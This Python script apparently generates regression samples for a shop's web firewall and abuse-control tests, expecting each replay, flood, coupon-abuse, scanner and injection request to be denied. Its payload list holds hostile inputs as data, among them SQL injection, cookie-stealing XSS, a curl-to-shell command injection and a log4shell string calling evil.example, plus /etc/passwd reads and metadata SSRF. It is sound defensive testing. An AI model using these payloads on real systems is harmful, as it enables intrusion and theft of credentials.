#!/usr/bin/env python3
"""Generates rules/samples/attack/: attack samples for the regression runner.

    python3 rules/samples/attack/generate.py --crs PATH/TO/crs-requests.jsonl

- crs/<family>/<id>.json: a stratified, seeded selection of paranoia-1 attack requests from the
  OWASP CRS regression corpus (Apache License 2.0, see CRS-LICENSE.txt), each expected to be
  denied at the edge tier.
- scenario/<name>.json: hand-written abuse of the shop's routes that needs the whole decision path
  and state: replay bursts, floods, credential stuffing, coupon and lottery abuse, tampering,
  scanners, payloads in shop fields.

Deterministic (fixed seed); rewrites every *.json below crs/ and scenario/.
"""
import argparse
import collections
import glob
import json
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
rng = random.Random(20261201)


def write(rel, sample):
    path = os.path.join(HERE, rel + ".json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        json.dump(sample, f, indent=2, ensure_ascii=False)
        f.write("\n")


def attacker_ip(i):
    return f"{rng.choice(['198.51.100', '203.0.113'])}.{(i % 250) + 1}"


def crs_samples(path, per_family_min=6, total=285):
    rows = [json.loads(l) for l in open(path, encoding="utf-8") if l.strip()]
    attacks = [r for r in rows if r["label"] == "attack" and r["paranoia"] == 1]
    by_family = collections.defaultdict(list)
    for r in attacks:
        by_family[r["family"]].append(r)
    chosen = []
    for fam, rs in sorted(by_family.items()):
        k = max(per_family_min, round(total * len(rs) / len(attacks)))
        chosen += rng.sample(rs, min(k, len(rs)))
    for i, r in enumerate(sorted(chosen, key=lambda r: r["id"])):
        uri = r["uri"]
        path_, _, query = uri.partition("?")
        headers = {k.lower(): v for k, v in r["headers"].items()}
        sample = {
            "name": r["id"],
            "description": f"CRS {r['crs_rule']} ({r['family']}): {r['desc']}",
            "kind": "attack",
            "category": r["family"],
            "source": f"crs-{r['crs_rule']}",
            "paranoia": 1,
            "request": {
                "app": "shop",
                "request": {"method": r["method"] or "GET", "path": path_ or "/", "query": query,
                            "headers": headers, "body": r["body"]},
                "client": {"ip": attacker_ip(i), "user_agent": headers.get("user-agent", "")},
            },
            "expect": {"action": "deny", "code": "RULE_DENY", "tier": "edge"},
        }
        write(f"crs/{r['family']}/{r['id']}", sample)
    return len(chosen)


def req(method, path, params=None, query="", user=None, ip="198.51.100.7", device="dev-attacker",
        ua=UA, ja3="771,4865-4866,0-23-65281,29-23,0", headers=None):
    body = json.dumps(params, separators=(",", ":"), ensure_ascii=False) if params is not None and method != "GET" else ""
    h = {"user-agent": ua, "accept": "application/json"}
    if body:
        h["content-type"] = "application/json"
    h.update(headers or {})
    r = {"app": "shop",
         "request": {"method": method, "path": path, "query": query, "headers": h, "body": body},
         "client": {"ip": ip, "device_id": device, "ja3": ja3, "country": "NL", "isp": "Example Telecom",
                    "device_type": "desktop", "user_agent": ua}}
    if user:
        r["user_id"] = user
    if params is not None:
        r["params"] = params
    return r


def scenario(name, description, request, expect, category="abuse", **extra):
    s = {"name": f"scenario-{name}", "description": description, "kind": "attack", "category": category,
         "request": request, "expect": expect}
    s.update(extra)
    write(f"scenario/{name}", s)


def scenarios():
    order = {"items": [{"sku": "sku-10023", "qty": 1}], "address": {"city": "Utrecht"}}
    deny = lambda code, rule=None, tier=None: {k: v for k, v in
                                               {"action": "deny", "code": code, "rule": rule, "tier": tier}.items() if v}
    # Replays of one captured, validly signed request.
    for name, path, params in [("order", "/api/orders", order),
                               ("payment", "/api/payments", {"order_id": "o-77", "amount": 59.9, "currency": "EUR", "method": "card"}),
                               ("coupon", "/api/coupons/claim", {"coupon": "SPRING-2026"}),
                               ("lottery", "/api/lottery/draw", {"event_id": "live-2026-12-01"}),
                               ("flash-sale", "/api/flash-sale/fs-42/buy", {"sku": "sku-777", "qty": 1})]:
        scenario(f"replay-burst-{name}", f"a captured {name} request replayed twice by a script",
                 req("POST", path, params, user="u-victim"), deny("REPLAY_DUPLICATE"),
                 category="replay", repeat=3, replay=True)
    scenario("replay-storm", "one captured order replayed 20 times: every replay keeps its precise answer",
             req("POST", "/api/orders", order, user="u-victim"), deny("REPLAY_DUPLICATE"),
             category="replay", repeat=20, replay=True)
    scenario("replay-slow", "one captured order replayed 4 seconds later, still inside the window",
             req("POST", "/api/orders", order, user="u-victim"), deny("REPLAY_DUPLICATE"),
             category="replay", repeat=2, replay=True, interval_ms=4000)
    scenario("tampered-amount", "a signed payment whose body was changed in transit",
             req("POST", "/api/payments", {"order_id": "o-1", "amount": 0.01, "currency": "EUR"}, user="u-1"),
             deny("SIGNATURE_INVALID"), category="forgery", sign="tampered")
    scenario("unsigned-order", "an order sent without the anti-replay headers",
             req("POST", "/api/orders", order, user="u-1"), deny("SIGNATURE_MISSING"), category="forgery", sign="none")
    scenario("stale-timestamp", "a request signed ten minutes ago and replayed now",
             req("POST", "/api/orders", order, user="u-1"), deny("TIMESTAMP_SKEW"), category="replay", sign="stale")
    scenario("double-submit-order", "the same order submitted twice 100 ms apart with fresh nonces",
             req("POST", "/api/orders", order, user="u-2"), {"action": "deny", "code": "DUPLICATE_SUBMISSION"},
             category="replay", repeat=2, interval_ms=100)
    # Floods.
    scenario("flood-search-one-ip", "a bot hammering search from one IP (100 requests/s)",
             req("GET", "/api/search", {"q": "ps5"}, query="q=ps5", ip="203.0.113.66"),
             deny("RATE_LIMITED", "ip-rate", "gateway"), category="flood", repeat=50)
    scenario("flood-account", "one account polling its orders from many threads (100 requests/s)",
             req("GET", "/api/account", {}, user="u-poller", ip="203.0.113.67"),
             deny("RATE_LIMITED", "user-rate", "gateway"), category="flood", repeat=23)
    scenario("credential-stuffing", "login attempts from one IP every two seconds",
             req("POST", "/api/login", {"username": "alice", "password": "hunter2"}, ip="203.0.113.68"),
             deny("RATE_LIMITED", "login-rate", "gateway"), category="flood", repeat=7, interval_ms=2000)
    scenario("hot-sku-rush", "a rush of carts for one SKU from many clients",
             req("POST", "/api/cart", {"sku": "sku-hot-1", "qty": 1}, user="u-rush", ip="203.0.113.69"),
             deny("RATE_LIMITED", "hot-sku", "gateway"), category="flood",
             before=[req("POST", "/api/cart", {"sku": "sku-hot-1", "qty": 1, "n": i}, user=f"u-rush-{i}",
                         ip=f"198.51.100.{i % 200 + 1}", device=f"dev-rush-{i}") for i in range(55)],
             interval_ms=1)
    # Coupon, lottery and flash-sale abuse.
    scenario("coupon-reuse", "one user redeeming the same coupon a second time",
             req("POST", "/api/coupons/claim", {"coupon": "SPRING-2026"}, user="u-3"),
             deny("QUOTA_EXHAUSTED", "coupon-once", "business"), category="coupon",
             before=[req("POST", "/api/coupons/claim", {"coupon": "SPRING-2026"}, user="u-3")], interval_ms=2000)
    scenario("coupon-farming", "six fresh accounts claiming coupons from one IP",
             req("POST", "/api/coupons/claim", {"coupon": "WELCOME10"}, user="farm-6", device="dev-farm-6", ip="203.0.113.70"),
             deny("RULE_DENY", "coupon-ip-farming", "business"), category="coupon",
             before=[req("POST", "/api/coupons/claim", {"coupon": "WELCOME10"}, user=f"farm-{i}", device=f"dev-farm-{i}",
                         ip="203.0.113.70") for i in range(5)], interval_ms=500)
    scenario("lottery-second-draw", "a user drawing twice in the same live event",
             req("POST", "/api/lottery/draw", {"event_id": "live-9"}, user="u-4"),
             deny("QUOTA_EXHAUSTED", "lottery-prize", "business"), category="lottery",
             before=[req("POST", "/api/lottery/draw", {"event_id": "live-9"}, user="u-4")], interval_ms=2000)
    scenario("lottery-sold-out", "the 101st draw of a 100-prize lottery",
             req("POST", "/api/lottery/draw", {"event_id": "live-10"}, user="u-late", device="dev-late", ip="198.51.100.250"),
             deny("QUOTA_EXHAUSTED", "lottery-prize", "business"), category="lottery",
             before=[req("POST", "/api/lottery/draw", {"event_id": "live-10"}, user=f"fan-{i}", device=f"dev-fan-{i}",
                         ip=f"198.51.100.{i + 1}") for i in range(100)], interval_ms=20)
    scenario("flash-sale-second-unit", "a second purchase by the same user in one flash sale",
             req("POST", "/api/flash-sale/fs-42/buy", {"sku": "sku-777", "qty": 1}, user="u-5"),
             deny("QUOTA_EXHAUSTED", "flash-sale-one-per-user", "business"), category="flash-sale",
             before=[req("POST", "/api/flash-sale/fs-42/buy", {"sku": "sku-777", "qty": 1}, user="u-5")], interval_ms=2000)
    scenario("device-account-farm", "a fifth account on one device within the hour",
             req("POST", "/api/orders", order, user="acct-5", device="dev-farm", ip="203.0.113.71"),
             {"action": "challenge", "code": "RULE_CHALLENGE", "tier": "business"}, category="account-farm",
             before=[req("GET", "/api/account", {}, user=f"acct-{i}", device="dev-farm", ip="203.0.113.71") for i in range(4)],
             interval_ms=1000)
    scenario("order-velocity", "a sixth order by one user within ten minutes",
             req("POST", "/api/orders", dict(order, note="6"), user="u-scalper"),
             {"action": "review", "code": "RULE_REVIEW", "rule": "order-velocity"}, category="velocity",
             before=[req("POST", "/api/orders", dict(order, note=str(i)), user="u-scalper") for i in range(5)],
             interval_ms=30000)
    scenario("bad-reputation", "a client refused three times by the business tier comes back to browse",
             req("GET", "/api/search", {"q": "gift"}, query="q=gift", user="farm-x", device="dev-rep", ip="203.0.113.72"),
             {"action": "challenge", "rule": "bad-reputation", "tier": "edge"}, category="reputation",
             before=[req("POST", "/api/coupons/claim", {"coupon": "WELCOME10"}, user=f"rep-{i}", device=f"dev-rep-{i}",
                         ip="203.0.113.72") for i in range(9)], interval_ms=500)
    # Passing the challenge (contract v1.1): the challenged client solves the proof of work and is
    # let through; its clearance passes later requests; its solution is good once. "{solution}" and
    # "{clearance}" stand for what the client was last given (rules/samples/README.md).
    refused = [req("POST", "/api/coupons/claim", {"coupon": "WELCOME10"}, user=f"rep-{i}", device=f"dev-rep-{i}",
                   ip="203.0.113.73") for i in range(9)]
    browse = lambda headers=None: req("GET", "/api/search", {"q": "gift"}, query="q=gift", user="farm-y",
                                      device="dev-rep-y", ip="203.0.113.73", headers=headers)
    scenario("challenge-solved", "a challenged client sends its request again with the solved proof of work",
             browse({"x-rampart-solution": "{solution}"}), {"action": "allow", "code": "OK"},
             category="challenge", kind="benign", before=refused + [browse()], interval_ms=500)
    scenario("challenge-cleared", "a client that solved the challenge comes back with its clearance",
             browse({"x-rampart-clearance": "{clearance}"}), {"action": "allow", "code": "OK"},
             category="challenge", kind="benign",
             before=refused + [browse(), browse({"x-rampart-solution": "{solution}"})], interval_ms=500)
    scenario("challenge-solution-reused", "a solved proof of work sent a second time",
             browse({"x-rampart-solution": "{solution}"}), deny("CHALLENGE_FAILED", "challenge"),
             category="challenge", before=refused + [browse(), browse({"x-rampart-solution": "{solution}"})],
             interval_ms=500)
    # Tampered business values.
    scenario("negative-amount", "a payment with a negative amount",
             req("POST", "/api/payments", {"order_id": "o-2", "amount": -100, "currency": "EUR"}, user="u-6"),
             deny("RULE_DENY", "payment-amount"), category="tampering")
    scenario("string-amount", "a payment whose amount is not a number",
             req("POST", "/api/payments", {"order_id": "o-3", "amount": "1e9", "currency": "EUR"}, user="u-7"),
             deny("RULE_DENY", "payment-amount"), category="tampering")
    scenario("huge-amount", "a payment far above the usual basket",
             req("POST", "/api/payments", {"order_id": "o-4", "amount": 99999, "currency": "USD"}, user="u-8"),
             {"action": "review", "rule": "payment-amount"}, category="tampering")
    # Edge lists.
    scenario("bogon-ip", "a request claiming to come from a reserved address",
             req("GET", "/api/search", {"q": "x"}, query="q=x", ip="240.1.2.3"), deny("RULE_DENY", "ip-blocklist", "edge"),
             category="edge-list")
    scenario("trace-method", "a TRACE probe (cross-site tracing)", req("TRACE", "/api/account", None),
             deny("RULE_DENY", "bad-method", "edge"), category="edge-list")
    scenario("oversized-query", "a 10 KB query string", req("GET", "/api/search", None, query="q=" + "A" * 10000),
             deny("RULE_DENY", "oversized-request", "edge"), category="edge-list")
    for tool, ua in [("sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)"), ("nikto", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
                     ("nuclei", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"), ("masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
                     ("wpscan", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"), ("dirbuster", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")]:
        scenario(f"scanner-{tool}", f"{tool} scanning the shop", req("GET", "/api/products/sku-1", None, ua=ua),
                 deny("RULE_DENY", "scanner-ua", "edge"), category="scanner")
    # Payloads in shop fields.
    payloads = [
        ("search-sqli", "GET", "/api/search", {"q": "shoes' OR '1'='1' -- "}, "q=shoes%27%20OR%20%271%27%3D%271%27%20--%20", "waf-sqli"),
        ("search-union", "GET", "/api/search", {"q": "1 UNION SELECT username,password FROM users"}, "q=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users", "waf-sqli"),
        ("review-xss", "POST", "/api/reviews", {"product_id": "sku-1", "rating": 5, "title": "great", "text": "<script>fetch('//evil.example/'+document.cookie)</script>"}, "", "waf-xss"),
        ("profile-xss", "PUT", "/api/profile", {"name": "<img src=x onerror=alert(1)>", "email": "a@b.example"}, "", "waf-xss"),
        ("coupon-sqli", "POST", "/api/coupons/claim", {"coupon": "X'; DROP TABLE coupons; --"}, "", "waf-sqli"),
        ("order-note-cmdi", "POST", "/api/orders", {"items": [], "note": "gift; cat /etc/passwd"}, "", "waf-traversal"),
        ("support-cmdi", "POST", "/api/support/tickets", {"subject": "help", "message": "$(curl -s http://evil.example/x.sh | sh)"}, "", "waf-rce"),
        ("login-nosql", "POST", "/api/login", {"username": {"$ne": None}, "password": {"$ne": None}}, "", "waf-sqli"),
        ("product-traversal", "GET", "/api/products/..%2f..%2f..%2fetc%2fpasswd", None, "", "waf-traversal"),
        ("profile-log4shell", "PUT", "/api/profile", {"name": "${jndi:ldap://evil.example/a}"}, "", "waf-rce"),
        ("avatar-ssrf", "PUT", "/api/profile", {"avatar_url": "http://169.254.169.254/latest/meta-data/iam/"}, "", "waf-protocol"),
        ("search-dotenv", "GET", "/.env", None, "", "waf-traversal"),
    ]
    for name, method, path, params, query, rule in payloads:
        scenario(name, f"an injection payload in a shop field ({rule})", req(method, path, params, query=query, user="u-9"),
                 deny("RULE_DENY", rule, "edge"), category="payload")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--crs", required=True, help="path of the OWASP CRS corpus crs-requests.jsonl")
    a = ap.parse_args()
    for old in glob.glob(os.path.join(HERE, "crs", "**", "*.json"), recursive=True) + \
            glob.glob(os.path.join(HERE, "scenario", "*.json")):
        os.remove(old)
    n = crs_samples(a.crs)
    scenarios()
    print(f"{n} CRS samples, {len(glob.glob(os.path.join(HERE, 'scenario', '*.json')))} scenarios")


if __name__ == "__main__":
    main()
